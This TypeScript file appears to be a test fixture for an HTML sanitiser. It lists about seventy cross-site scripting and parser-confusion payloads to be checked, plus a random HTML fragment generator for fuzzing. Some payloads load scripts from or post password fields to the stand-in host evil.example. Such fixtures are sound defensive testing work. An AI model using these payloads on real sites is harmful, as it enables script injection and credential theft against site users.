/** What people and programs have tried to get through sanitisers; none of it may run or remain. */
export const attacks: readonly string[] = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)//',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
  '<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x>x</a></svg>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#x0A;script:alert(1)">x</a>',
  '<a href="&#106;&#97;vascript&colon;alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="/\t/evil.example">x</a>',
  '<a href="https://bank.example@evil.example">x</a>',
  '<a href="https:evil.example">x</a>',
  '<a href="mailto:a@b.example" onclick=alert(1) style="position:fixed;inset:0">x</a>',
  '<a href="/team" target=_top rel=opener ping=//evil.example download>x</a>',
  '<a href="https://a.example/"onmouseover="alert(1)">x</a>',
  '<a href=`javascript:alert(1)`>x</a>',
  '<p title="><script>alert(1)</script>">x</p>',
  '<p style="background:url(javascript:alert(1))" class="site-header" data-island=menu>x</p>',
  '<p id=content>x</p><li id=note-1>x<li id="note-1 onclick=alert(1)">y',
  '<ul><li id=content>x<li id="note-1 note-2">y<li id=note-0>z</ul>',
  '<th scope="col" onload="alert(1)">x</th>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<style><img src="</style><img src=x onerror=alert(1)>">',
  '<title><p title="</title><img src=x onerror=alert(1)>">',
  '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<template><p></template><img src=x onerror=alert(1)>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>',
  '<math><annotation-xml encoding="text/html"><p><img src=x onerror=alert(1)></annotation-xml>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe><script>alert(1)</script></iframe>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<base href="https://evil.example/"><a href="/team">x</a>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<form action=//evil.example><input name=password autofocus onfocus=alert(1)></form>',
  '<button formaction=javascript:alert(1)>x</button>',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<p><!--><img src=x onerror=alert(1)>--></p>',
  '<!--[if IE]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><?php alert(1) ?><p>x',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&amp;lt;img src=x onerror=alert(1)&amp;gt;',
  '<p>a\0b<scr\0ipt>alert(1)</scr\0ipt>',
  '<p>\ud800 &#0; &#13; &#x80; &#1; \u000b \u000c \u2028</p>',
  '<table><caption><table><tr><td><td><table><caption><p>x</table>y<li>z',
  '<a href="/x"><a href="/y"><table><tr><td><a href="/z">z',
  '<strong><strong><strong><strong><strong><p>x</strong></p></strong>y',
  '</main></body></html><p>x',
  '<p',
  '<p "',
  '<a href="',
  '<',
  '</',
  '<!',
]

const tags = [
  ...['h2', 'h3', 'p', 'ul', 'ol', 'li', 'blockquote', 'hr', 'section', 'figure', 'figcaption'],
  ...['table', 'caption', 'thead', 'tbody', 'tr', 'th', 'td', 'strong', 'em', 'a', 'sup', 'br'],
  ...['div', 'span', 'b', 'h1', 'svg', 'math', 'mtext', 'style', 'title', 'template', 'noscript'],
  ...['script', 'iframe', 'textarea', 'select', 'option', 'form', 'img', 'tfoot', 'colgroup', 'dl'],
]

const scraps = [
  ...['x', ' word ', '\n', '\u00a0', '\r', '\0', '&nbsp;', '&amp;', '&lt;b&gt;', '&#13;', '&#0;'],
  ...[
    'قنطرة',
    '😀',
    '"',
    "'",
    '<',
    '>',
    '&',
    '<!-- c -->',
    '<!--',
    '-->',
    '<![CDATA[x]]>',
    '<?x?>',
  ],
]

const attributes = [
  ...['', '', '', ' class=x', ' href="/team"', ' href="https://a.example/?b=1&c"', ' href=#note-1'],
  ...[
    ' href=javascript:x',
    ' id=note-1',
    ' id=note-2',
    ' scope=col',
    ' onclick="x"',
    ' src="/media/letter-images/a-20261121t184455123z-0123456789abcdef-1200.jpg" alt=\'a"<b\'',
    ' x="',
    " y='",
  ],
]

/** Up to 40 pieces of HTML in no order: mostly nonsense, as pasting and hand-editing leave it. */
export function randomFragment(random: (below: number) => number): string {
  const of = (list: readonly string[]) => list[random(list.length)] ?? ''
  return Array.from({ length: 1 + random(40) }, () => {
    const kind = random(5)
    if (kind === 0) return of(scraps)
    return kind < 3 ? `<${of(tags)}${of(attributes)}>` : random(2) ? `</${of(tags)}>` : of(scraps)
  }).join('')
}
